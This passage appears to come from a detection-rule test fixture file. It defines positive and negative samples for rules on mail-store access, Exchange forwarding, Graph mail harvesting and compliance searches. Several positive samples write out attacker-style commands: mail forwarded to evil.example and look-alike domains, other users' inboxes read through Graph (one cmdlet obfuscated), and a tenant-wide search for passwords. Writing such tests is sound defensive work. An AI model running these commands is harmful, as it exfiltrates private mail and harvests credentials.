        "robocopy copies *.pst and excludes *.ost: the store pattern stands before the options, so it is copied.",
        proc(
            "C:\\Windows\\System32\\Robocopy.exe",
            "robocopy C:\\Users\\bob\\Documents D:\\x *.pst /XF *.ost /R:0",
            "robocopy.exe",
        ),
    ),
]

R = "win_mail_store_access_by_non_mail_client"
FIXTURES[R] += [
    neg(
        R,
        "veeam_agent_backs_up_pst",
        "The Veeam agent, installed under Program Files, reads a PST while backing up the profile.",
        {
            "kind": "object_access",
            "process": "C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Service.exe",
            "object": _PST,
        },
    ),
    neg(
        R,
        "azure_backup_agent_reads_ost",
        "The Azure Recovery Services (MARS) agent reads an OST during a file backup.",
        {
            "kind": "object_access",
            "process": "C:\\Program Files\\Microsoft Azure Recovery Services Agent\\bin\\cbengine.exe",
            "object": _OST,
        },
    ),
    pos(
        R,
        "backup_named_tool_outside_program_files",
        "A tool in a user-writable folder named after a backup vendor reads the OST: only the vendor's installation folder is trusted.",
        {
            "kind": "object_access",
            "process": "C:\\Users\\Public\\Veeam\\Veeam.EndPoint.Service.exe",
            "object": _OST,
        },
    ),
]

R = "win_exchange_management_forwarding"
FIXTURES[R] += [
    neg(
        R,
        "set_mailbox_forwarding_to_colleague",
        "Set-Mailbox forwards to one address in an internal domain (a colleague): routine, the M365 rules keep it at low; no alert here.",
        msx(
            "Set-Mailbox",
            '-Identity "contoso.local/Users/alice" -ForwardingSmtpAddress "smtp:bob@contoso.com" -DeliverToMailboxAndForward "True"',
        ),
    ),
    pos(
        R,
        "inbox_rule_forward_internal_and_external",
        "An inbox rule forwarding to a colleague and to an outside address: two addresses, so the internal one does not hide the other.",
        msx(
            "New-InboxRule",
            '-Mailbox "hr" -Name "Copy" -ForwardTo "bob@contoso.com","hr.copy@evil.example"',
        ),
    ),
    pos(
        R,
        "set_mailbox_identity_internal_forwarding_external",
        "The mailbox is named by its internal address and forwarded outside: the internal address is the identity, not the destination.",
        msx(
            "Set-Mailbox",
            '-Identity "cfo@contoso.com" -ForwardingSmtpAddress "smtp:cfo@evil.example"',
        ),
    ),
    pos(
        R,
        "set_mailbox_forwarding_lookalike_domain",
        "Forwarding to a look-alike domain that starts with the internal one (contoso.com.evil.example): not internal.",
        msx(
            "Set-Mailbox",
            '-Identity "cfo" -ForwardingSmtpAddress "smtp:cfo@contoso.com.evil.example"',
        ),
    ),
]

R = "win_mail_hunting_tool_script"
FIXTURES[R] += [
    pos(
        R,
        "graph_rest_reads_other_users_messages",
        "Atomic Red Team T1114.002: an app-only Graph session requests /users/{id}/messages for each selected user.",
        sb(
            'connect-mggraph -ClientId $app.AppId -TenantId $context.TenantId -CertificateName $cert.Subjectname.Name\nforeach ($user in $selectUsers) { $url= "https://graph.microsoft.com/v1.0/users/$($user)/messages" ; Invoke-MgGraphRequest -Uri $url -Method GET -OutputType PSObject}'
        ),
    ),
    pos(
        R,
        "graph_sdk_mail_folder_messages_backticks",
        "The Graph SDK reads another user's inbox, the cmdlet name broken by backticks.",
        sb(
            "Connect-MgGraph -Scopes Mail.Read\nG`et-MgUserMailFolderMessage -UserId ceo@contoso.com -MailFolderId inbox -All | Select Subject,BodyPreview"
        ),
    ),
    pos(
        R,
        "graph_sdk_message_content",
        "Get-MgUserMessageContent downloads a user's message as MIME.",
        sb(
            "Get-MgUserMessageContent -UserId cfo@contoso.com -MessageId $m.Id -OutFile C:\\Users\\Public\\m.eml"
        ),
    ),
    neg(
        R,
        "graph_own_mailbox_me",
        "A script reads the signed-in user's own mail through /me/messages: the owner's mailbox.",
        sb(
            'Invoke-MgGraphRequest -Uri "https://graph.microsoft.com/v1.0/me/messages?$top=10" -Method GET'
        ),
    ),
    neg(
        R,
        "graph_user_listing_and_calendar",
        "An admin script lists users and reads a calendar through Graph: no mail is read.",
        sb(
            'Get-MgUser -All | Select DisplayName,Mail\nInvoke-MgGraphRequest -Uri "https://graph.microsoft.com/v1.0/users/$id/calendar/events" -Method GET'
        ),
    ),
]

R = "win_exchange_management_compliance_search_created"
FIXTURES[R] = []
VARIANTS[R] = [
    pos(
        R,
        "search_all_mailboxes_for_passwords",
        "New-ComplianceSearch over every mailbox for a keyword query.",
        msx(
            "New-ComplianceSearch",
            '-Name "audit-2611" -ExchangeLocation "All" -ContentMatchQuery "password OR credentials"',
        ),
    ),
    pos(
        R,
        "abbreviated_location_named_mailboxes",
        "An abbreviated -ExchangeLoc naming two executives' mailboxes.",
        msx(
            "New-ComplianceSearch",
            '-Name "q7" -ExchangeLoc "ceo@contoso.com","cfo@contoso.com" -ContentMatchQuery "subject:merger"',
        ),
    ),
    neg(
        R,
        "search_of_sharepoint_sites_only",
        "A compliance search over SharePoint sites only: no mailbox is searched.",
        msx(
            "New-ComplianceSearch",
            '-Name "sites-legal" -SharePointLocation "https://contoso.sharepoint.com/sites/legal" -ContentMatchQuery "contract"',
        ),
    ),
    neg(
        R,
        "searches_listed",
        "Get-ComplianceSearch lists existing searches: read-only.",
        msx("Get-ComplianceSearch", '-Identity "audit-2611"'),
    ),
    neg(
        R,
        "search_started",
        "Start-ComplianceSearch reruns an existing search; its creation was recorded already.",
        msx("Start-ComplianceSearch", '-Identity "phish-0311"'),
    ),
]
